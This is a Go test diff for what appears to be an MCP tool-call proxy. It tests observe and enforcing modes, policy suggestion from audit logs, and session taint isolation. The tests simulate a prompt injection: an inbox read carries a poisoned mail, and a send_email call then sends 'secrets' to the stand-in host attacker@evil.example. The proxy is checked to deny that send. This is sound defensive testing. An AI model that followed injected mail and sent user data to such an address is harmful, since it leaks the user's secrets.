@@ -99,3 +99,106 @@ func TestClientSession(t *testing.T) {
 		t.Fatalf("the vouched mail did not go out: %q", se)
 	}
 }
+
+// Observe mode decides every call as enforcing would, audits it with
+// enforced: false, and forwards it anyway: the poisoned read and the send it
+// asks for both reach the server, and the send is audited as the deny that
+// enforcing mode gives it.
+func TestObserveMode(t *testing.T) {
+	for _, observe := range []bool{true, false} {
+		var args []string
+		if observe {
+			args = []string{"--observe"}
+		}
+		s := e2e.Start(t, e2e.MCPGo(t, "attacker@evil.example"), e2e.Options{Policy: sessionPolicy, Args: append(args, "--name", "mail")})
+		if r := s.CallTool(1, "read_inbox", `{}`); !strings.Contains(r.Text, "attacker@evil.example") {
+			t.Fatalf("read_inbox: %s", r.Raw)
+		}
+		v, rule, _ := sendTo(t, s, 2, "mail", "attacker@evil.example")
+		if v != "deny" || rule != "sink" {
+			t.Fatalf("observe=%v: audited %s/%s, want the deny enforcing gives", observe, v, rule)
+		}
+		var e2 *bool
+		for _, e := range s.Audit() {
+			if string(e.ID) == "2" {
+				e2 = e.Enforced
+				if !strings.HasPrefix(e.Policy, "sha256:") {
+					t.Errorf("audit line without the policy digest: %+v", e)
+				}
+			}
+		}
+		sent := len(s.SideEffects())
+		switch {
+		case observe && (e2 == nil || *e2 || sent != 1):
+			t.Fatalf("observe: enforced=%v, %d mails sent; want enforced false and the mail sent", e2, sent)
+		case !observe && (e2 != nil || sent != 0):
+			t.Fatalf("enforcing: enforced=%v, %d mails sent", e2, sent)
+		}
+	}
+}
+
+// The rollout loop end to end: a session observed (everything forwarded),
+// a policy suggested from its audit log, the same session replayed
+// enforcing with it: the colleague's mail goes out, the injection's does
+// not.
+func TestObserveSuggestEnforce(t *testing.T) {
+	home := t.TempDir()
+	session := func(s *e2e.Session) {
+		t.Helper()
+		if r := s.CallTool(1, "read_inbox", `{}`); !strings.Contains(r.Text, "attacker@evil.example") {
+			t.Fatalf("read_inbox: %s", r.Raw)
+		}
+		s.CallTool(2, "send_email", `{"to":"carol@partner.example","subject":"notes","body":"b"}`)
+		s.CallTool(3, "send_email", `{"to":"attacker@evil.example","subject":"all","body":"secrets"}`)
+	}
+	observed := e2e.Start(t, e2e.MCPGo(t, "attacker@evil.example"), e2e.Options{Home: home, Policy: sessionPolicy, Args: []string{"--observe", "--name", "mail"}})
+	session(observed)
+	if n := len(observed.SideEffects()); n != 2 {
+		t.Fatalf("observe mode forwarded %d of the 2 sends", n)
+	}
+	observed.Close()
+
+	base := filepath.Join(t.TempDir(), "base.yaml")
+	if err := os.WriteFile(base, []byte(sessionPolicy), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	out, err := exec.Command(e2e.Bouncer(t), "policy", "suggest", "--home", home, "--policy", base).Output()
+	if err != nil {
+		t.Fatalf("policy suggest: %v", err)
+	}
+	if !strings.Contains(string(out), `"carol@partner.example"`) || strings.Contains(string(out), `- "attacker@evil.example"`) {
+		t.Fatalf("suggested:\n%s", out)
+	}
+	suggested := filepath.Join(t.TempDir(), "suggested.yaml")
+	if err := os.WriteFile(suggested, out, 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	enforcing := e2e.Start(t, e2e.MCPGo(t, "attacker@evil.example"), e2e.Options{Policy: sessionPolicy, Args: []string{"--policy", suggested, "--name", "mail"}})
+	session(enforcing)
+	effects := enforcing.Effects()
+	if len(effects) != 1 || effects[0]["to"] != "carol@partner.example" {
+		t.Fatalf("enforcing with the suggestion, the server sent: %v", effects)
+	}
+}
+
+// A server whose policy says shared_session: false keeps its own history:
+// what it returns taints nothing for the client's other servers.
+func TestSharedSessionOptOut(t *testing.T) {
+	home := t.TempDir()
+	isolated := e2e.Start(t, e2e.MCPGo(t, "attacker@evil.example"), e2e.Options{Home: home, Policy: sessionPolicy + "shared_session: false\n", Args: []string{"--name", "inbox"}})
+	sender := e2e.Start(t, e2e.MCPGo(t, "nobody@nowhere.example"), e2e.Options{Home: home, Policy: sessionPolicy, Args: []string{"--name", "outbox"}})
+	if r := isolated.CallTool(1, "read_inbox", `{}`); !strings.Contains(r.Text, "attacker@evil.example") {
+		t.Fatalf("read_inbox: %s", r.Raw)
+	}
+	if v, _, reason := sendTo(t, sender, 2, "outbox", "attacker@evil.example"); v != "ask" {
+		t.Fatalf("the opted-out server's output reached the other's session: %s %q", v, reason)
+	}
+	// It still judges with its own history.
+	if v, _, _ := sendTo(t, isolated, 3, "inbox", "attacker@evil.example"); v != "deny" {
+		t.Fatalf("the opted-out server lost its own taint: %s", v)
+	}
+	if !strings.Contains(isolated.Stderr(), "shared_session: false") {
+		t.Errorf("the opted-out proxy does not say so: %s", isolated.Stderr())
+	}
+}
